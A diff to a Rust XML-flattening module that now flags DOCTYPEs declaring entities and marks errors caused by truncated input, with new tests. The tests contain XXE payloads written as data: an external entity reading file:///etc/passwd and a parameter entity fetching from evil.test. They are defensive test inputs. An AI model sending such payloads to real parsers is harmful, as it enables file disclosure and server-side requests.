@@ -1,8 +1,8 @@
 //! XML 1.0, flattened with a pull parser: the text of all elements run together (libxml2's string value of the root, what
 //! `XML:/*` is), and the values of attributes (`XML://@*`, which leaves namespace declarations out, as XPath does).
 //!
-//! No DTD is read, no entity but the five of the standard and character references is known, nothing is fetched. What a
-//! document gets wrong without making the rest unreadable (an unknown entity, an attribute without quotes, a second
+//! No DTD is read, no entity but the five of the standard and character references is known, nothing is fetched; that a
+//! DTD declares entities is said, for whoever reads the document next may use them. What a document gets wrong without making the rest unreadable (an unknown entity, an attribute without quotes, a second
 //! root) is said and kept as it is written.
 //!
 //! Invariants: memory is linear in the body; nesting takes no thread's stack.
@@ -10,6 +10,7 @@
 use std::borrow::Cow;
 
 use quick_xml::XmlVersion;
+use quick_xml::errors::{Error, IllFormedError, SyntaxError};
 use quick_xml::escape::resolve_xml_entity;
 use quick_xml::events::{BytesRef, BytesStart, Event};
 use quick_xml::reader::Reader;
@@ -60,22 +61,26 @@ impl Document {
         if declaration.contains("iso-8859-") || declaration.contains("windows-125") {
             return input.iter().map(|&byte| char::from(byte)).collect::<String>().into();
         }
-        self.fault(BodyError(format!("not UTF-8 at byte {}", valid.len())));
+        let message = format!("not UTF-8 at byte {}", valid.len());
+        self.fault(BodyError::new(message).at_end(error.error_len().is_none()));
         String::from_utf8_lossy(valid)
     }
 
     fn read(&mut self, text: &str) -> Result<(), BodyError> {
-        let malformed = |error: &dyn std::fmt::Display| BodyError(format!("not XML: {error}"));
+        let malformed = |error: &dyn std::fmt::Display| BodyError::new(format!("not XML: {error}"));
         let mut reader = Reader::from_str(text);
         loop {
-            let event = reader.read_event().map_err(|error| malformed(&error))?;
+            let event = reader.read_event().map_err(|error| {
+                let cut = is_cut(&error, text, reader.error_position());
+                malformed(&error).at_end(cut)
+            })?;
             let continues = matches!(event, Event::Text(_) | Event::CData(_) | Event::GeneralRef(_));
             match event {
                 Event::Start(start) => {
                     self.element(&start)?;
                     self.depth += 1;
                     if self.depth > self.limits.depth {
-                        return Err(BodyError(format!("nested deeper than {}", self.limits.depth)));
+                        return Err(BodyError::new(format!("nested deeper than {}", self.limits.depth)));
                     }
                 }
                 Event::Empty(start) => self.element(&start)?,
@@ -86,12 +91,18 @@ impl Document {
                 Event::Decl(declaration) => {
                     let encoding = declaration.encoding().and_then(Result::ok).unwrap_or_default();
                     if !encoding.is_empty() && !is_ascii_based(&encoding) {
-                        self.fault(BodyError(format!("the encoding {encoding:.40} is not known")));
+                        self.fault(BodyError::new(format!("the encoding {encoding:.40} is not known")));
                     }
                 }
-                Event::Comment(_) | Event::PI(_) | Event::DocType(_) => {}
-                Event::Eof if self.depth > 0 => return Err(malformed(&"it ends within an element")),
-                Event::Eof if !self.root => return Err(malformed(&"there is no element")),
+                Event::DocType(text) => {
+                    self.xml.doctype = true;
+                    if text.contains("<!ENTITY") {
+                        self.fault(BodyError::new("its DOCTYPE declares entities"));
+                    }
+                }
+                Event::Comment(_) | Event::PI(_) => {}
+                Event::Eof if self.depth > 0 => return Err(malformed(&"it ends within an element").at_end(true)),
+                Event::Eof if !self.root => return Err(malformed(&"there is no element").at_end(true)),
                 Event::Eof => return Ok(()),
             }
             self.in_text = continues;
@@ -100,13 +111,13 @@ impl Document {
 
     fn element(&mut self, start: &BytesStart<'_>) -> Result<(), BodyError> {
         if self.depth == 0 && std::mem::replace(&mut self.root, true) {
-            self.fault(BodyError("not XML: there is a second root".into()));
+            self.fault(BodyError::new("not XML: there is a second root"));
         }
         let mut attributes = start.attributes();
         // To look for doubled names would take time in the square of their number.
         for attribute in attributes.with_checks(false) {
             let Ok(attribute) = attribute else {
-                self.fault(BodyError("not XML: an attribute without quotes or value".into()));
+                self.fault(BodyError::new("not XML: an attribute without quotes or value"));
                 self.count()?;
                 self.xml.attributes.push(start.attributes_raw().as_bytes().to_vec());
                 break;
@@ -118,7 +129,7 @@ impl Document {
             self.count()?;
             let value = attribute.normalized_value_with(XmlVersion::Implicit1_0, 1, resolve_xml_entity);
             if value.is_err() {
-                self.fault(BodyError("not XML: an unknown entity in an attribute".into()));
+                self.fault(BodyError::new("not XML: an unknown entity in an attribute"));
             }
             let value = value.unwrap_or_else(|_| attribute.value.clone());
             self.xml.attributes.push(value.into_owned().into_bytes());
@@ -131,7 +142,7 @@ impl Document {
             if text.trim_ascii().is_empty() {
                 return Ok(());
             }
-            self.fault(BodyError("not XML: there is text outside of the root".into()));
+            self.fault(BodyError::new("not XML: there is text outside of the root"));
         }
         if !self.in_text && !text.is_empty() {
             self.count()?;
@@ -148,14 +159,14 @@ impl Document {
         if let Some(known) = resolve_xml_entity(name) {
             return self.text(known);
         }
-        self.fault(BodyError(format!("not XML: the entity {name:.40} is not known")));
+        self.fault(BodyError::new(format!("not XML: the entity {name:.40} is not known")));
         self.text(&format!("&{name};"))
     }
 
     fn count(&mut self) -> Result<(), BodyError> {
         self.items += 1;
         if self.items > self.limits.items {
-            return Err(BodyError(format!(
+            return Err(BodyError::new(format!(
                 "more than {} texts and attributes",
                 self.limits.items
             )));
@@ -163,9 +174,34 @@ impl Document {
         Ok(())
     }
 
-    /// The first fault is the one that is told.
+    /// The first fault is the one that is told, but for what more of the document could make right.
     fn fault(&mut self, error: BodyError) {
-        self.xml.error.get_or_insert(error);
+        if self
+            .xml
+            .error
+            .as_ref()
+            .is_none_or(|known| known.at_end && !error.at_end)
+        {
+            self.xml.error = Some(error);
+        }
+    }
+}
+
+/// Whether the parser fails because the document ends: within a tag, a comment or the like, or within a reference that
+/// begins at `position`.
+fn is_cut(error: &Error, text: &str, position: u64) -> bool {
+    match error {
+        Error::Syntax(SyntaxError::InvalidBangMarkup) => text.ends_with("<!"),
+        Error::Syntax(_) => true,
+        Error::IllFormed(IllFormedError::UnclosedReference) => {
+            let rest = usize::try_from(position)
+                .ok()
+                .and_then(|position| text.get(position + 1..));
+            let is_name =
+                |character: char| character.is_alphanumeric() || matches!(character, '#' | '.' | '-' | '_' | ':');
+            rest.is_some_and(|rest| rest.chars().all(is_name))
+        }
+        _ => false,
     }
 }
 
@@ -230,13 +266,15 @@ mod tests {
     }
 
     #[test]
-    fn a_doctype_is_not_read_and_its_entities_are_not_known() {
+    fn a_doctype_is_not_read_and_one_that_declares_entities_is_an_error() {
         is("<!DOCTYPE a [<!ELEMENT a ANY>]><a>x</a>", "x", &[]);
-        fails(
-            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>1&x;2</a>",
-            "1&x;2",
-            "not XML: the entity x is not known",
-        );
+        assert!(parse(b"<!DOCTYPE a><a/>", LIMITS).doctype && !parse(b"<a/>", LIMITS).doctype);
+        let declares = "its DOCTYPE declares entities";
+        let subset = "<!ENTITY x SYSTEM \"file:///etc/passwd\">";
+        fails(&format!("<!DOCTYPE a [{subset}]><a>1&x;2</a>"), "1&x;2", declares);
+        let parameter = "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://evil.test/x\"> %x;]><a>1</a>";
+        fails(parameter, "1", declares);
+        fails("<a>1&x;2</a>", "1&x;2", "not XML: the entity x is not known");
         let (_, attributes, error) = read("<a b='1&x;2' c='3'/>");
         assert_eq!(attributes, ["1&x;2", "3"]);
         assert!(error.is_some());
@@ -261,6 +299,37 @@ mod tests {
     }
 
     #[test]
+    fn of_a_document_that_is_cut_anywhere_nothing_is_wrong_but_its_end() {
+        let whole = "<?xml version='1.0'?><!DOCTYPE a><!-- c --><a b='1&amp;2'>é&lt;<![CDATA[x]]><?p q?><c/>&#x41;</a>";
+        for end in 1..whole.len() {
+            let Some(error) = parse(&whole.as_bytes()[..end], LIMITS).error else {
+                panic!("{end}: no error");
+            };
+            assert!(error.at_end, "{end}: {error}");
+        }
+        for wrong in [
+            "<a>&x;",
+            "<a>1 & 2",
+            "<a>&x <b>",
+            "<a></b>",
+            "<a b=1>",
+            "x",
+            "<!x",
+            "<a/><b>",
+        ] {
+            assert_eq!(
+                parse(wrong.as_bytes(), LIMITS).error.map(|error| error.at_end),
+                Some(false),
+                "{wrong}"
+            );
+        }
+        assert_eq!(
+            parse(b"<a>&x;\xc3", LIMITS).error.map(|error| error.at_end),
+            Some(false)
+        );
+    }
+
+    #[test]
     fn an_encoding_in_which_ascii_is_not_ascii_is_an_error() {
         let (_, _, error) = read("<?xml version='1.0' encoding='UTF-7'?><a>+ADw-</a>");
         assert_eq!(error.as_deref(), Some("the encoding UTF-7 is not known"));
@@ -268,7 +337,7 @@ mod tests {
         assert_eq!((latin.text.as_slice(), latin.error), ("é<".as_bytes(), None));
         let unsaid = parse(b"<a>x\xe9&lt;</a>", LIMITS);
         assert_eq!(unsaid.text, b"x");
-        assert_eq!(unsaid.error, Some(BodyError("not UTF-8 at byte 4".into())));
+        assert_eq!(unsaid.error, Some(BodyError::new("not UTF-8 at byte 4")));
         assert!(
             parse(
                 "<a/>"
